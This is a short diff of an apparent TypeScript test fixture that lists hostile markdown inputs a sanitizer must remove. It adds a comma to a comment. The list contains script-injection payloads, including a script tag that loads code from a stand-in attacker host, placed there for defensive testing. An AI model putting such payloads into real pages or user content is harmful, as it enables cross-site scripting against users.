@@ -1,4 +1,4 @@
-/** Markdown that tries to run, load, style, submit or break out; none of it may survive. */
+/** Markdown that tries to run, load, style, submit, or break out; none of it may survive. */
 export const hostile: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src=//evil.example></script>',
